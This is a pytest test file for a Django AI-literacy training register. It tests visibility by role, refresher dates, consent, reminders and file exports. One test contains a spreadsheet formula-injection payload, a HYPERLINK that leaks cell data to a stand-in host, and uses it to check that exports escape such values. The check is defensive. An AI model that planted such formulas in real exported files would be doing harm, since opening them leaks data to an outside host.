"""The AI-literacy register: scope, coverage, refreshers, consent, files and reminders."""

import csv
import datetime
import io
import subprocess

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from courses import services as course_services
from courses.models import Course, QuizResult
from reports import register
from reports.services import report_settings
from tests.factories import DepartmentFactory, UserFactory

pytestmark = pytest.mark.django_db


def complete(user, days_ago: int, *, share: bool = False):
    course = Course.objects.get(slug="frugal-prompting")
    enrollment = course_services.course_enroll(user=user, course=course)
    module = course.modules.first()
    QuizResult.objects.create(enrollment=enrollment, module=module, score_percent=90, passed=True)
    enrollment.completed_at = timezone.now() - datetime.timedelta(days=days_ago)
    enrollment.share_results = share
    enrollment.save()
    return enrollment


@pytest.mark.parametrize(
    ("day", "months", "due"),
    [
        (datetime.date(2026, 1, 31), 1, datetime.date(2026, 2, 28)),
        (datetime.date(2026, 1, 15), 12, datetime.date(2027, 1, 15)),
        (datetime.date(2024, 2, 29), 12, datetime.date(2025, 2, 28)),
        (datetime.date(2026, 11, 30), 3, datetime.date(2027, 2, 28)),
    ],
)
def test_refresher_dates_add_calendar_months(day, months, due):
    assert register.add_months(day, months) == due


def test_admins_see_everyone_managers_their_departments_employees_themselves(alice, bruno, carla, root):
    complete(alice, days_ago=10)
    names = {
        user.username: {p.user.username for p in register.register_build(user).people}
        for user in (alice, bruno, carla, root)
    }
    assert names["root"] == {"alice", "bruno", "carla", "root"}
    assert names["bruno"] == {"alice", "bruno"}
    assert names["carla"] == {"carla", "root"}
    assert names["alice"] == {"alice"}


def test_coverage_and_refreshers_due(root, alice, bruno, sales):
    # Given alice trained 400 days ago, bruno 30 days ago, a third Sales member untrained; refresher: 12 months
    complete(alice, days_ago=400)
    complete(bruno, days_ago=30)
    UserFactory(username="dora", department=sales)
    report_settings()

    data = register.register_build(root)

    sales_row = next(row for row in data.coverage if row.department == "Sales")
    assert (sales_row.people, sales_row.trained, sales_row.up_to_date) == (3, 2, 1)
    assert sales_row.share == pytest.approx(2 / 3)
    alice_training = next(p for p in data.people if p.user == alice).trainings[0]
    assert alice_training.refresher_overdue(data.today)
    assert alice_training.modules_passed == 1 and alice_training.modules_total >= 1


def test_the_measured_change_is_shown_only_where_the_learner_consented(root, alice, bruno):
    complete(alice, days_ago=5, share=False)
    complete(bruno, days_ago=5, share=True)
    people = {p.user.username: p for p in register.register_build(root).people}
    own = register.register_build(alice).people[0]

    assert people["alice"].trainings[0].shared is False
    assert people["bruno"].trainings[0].shared is True
    assert own.trainings[0].shared is True  # one's own record


def test_refresher_reminders_are_sent_once(alice, bruno):
    complete(alice, days_ago=400)
    complete(bruno, days_ago=30)
    alice.language = "fr"
    alice.save()

    first = register.refreshers_remind()
    again = register.refreshers_remind()

    assert (first, again) == (1, 0)
    assert mail.outbox[0].to == [alice.email]
    assert "remise à niveau" in mail.outbox[0].subject


def test_the_register_page_and_files(client, root, alice, bruno, research):
    complete(alice, days_ago=10)
    client.force_login(bruno)

    page = client.get(reverse("reports:register"))
    as_csv = client.get(reverse("reports:register"), {"format": "csv"})
    as_xlsx = client.get(reverse("reports:register"), {"format": "xlsx"})
    as_pdf = client.get(reverse("reports:register"), {"format": "pdf"})
    other = client.get(reverse("reports:register"), {"department": research.pk, "format": "csv"})

    assert page.status_code == 200
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == ["alice", "bruno"]
    workbook = load_workbook(io.BytesIO(as_xlsx.content))
    assert workbook.sheetnames == ["People", "Coverage"]
    assert as_pdf["Content-Type"] == "application/pdf"
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=as_pdf.content, capture_output=True, check=True
    ).stdout
    assert b"AI-literacy register" in text and b"alice" in text and b"Sales" in text
    assert other.status_code == 400
    assert client.post(reverse("reports:register"), {"refresher_months": 6}).status_code == 403

    client.force_login(root)
    assert client.post(reverse("reports:register"), {"refresher_months": 6}).status_code == 302
    assert report_settings().refresher_months == 6
    client.force_login(alice)
    own = client.get(reverse("reports:register"), {"format": "csv"})
    assert [row[1] for row in csv.reader(io.StringIO(own.content.decode("utf-8-sig")))][1:] == ["alice"]


def test_names_and_departments_like_formulas_are_text_in_the_files(client, root):
    """Issue 14, defect 5: names come from people and SSO; no register file hands a spreadsheet a formula."""
    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    learner = UserFactory(username="@learner", first_name=evil, department=DepartmentFactory(name="+Ops"))
    complete(learner, days_ago=10)
    client.force_login(root)

    as_csv = client.get(reverse("reports:register"), {"format": "csv"})
    as_xlsx = client.get(reverse("reports:register"), {"format": "xlsx"})

    (row,) = [row for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) if "+Ops" in row[2]]
    assert row[:3] == ["'" + evil, "'@learner", "'+Ops"]
    people, coverage = load_workbook(io.BytesIO(as_xlsx.content)).worksheets
    (line,) = [line for line in people.iter_rows(min_row=2) if line[1].value == "@learner"]
    assert [cell.value for cell in line[:3]] == [evil, "@learner", "+Ops"]
    assert {cell.data_type for cell in line[:3]} == {"s"}
    assert "+Ops" in [line[0].value for line in coverage.iter_rows(min_row=2)]
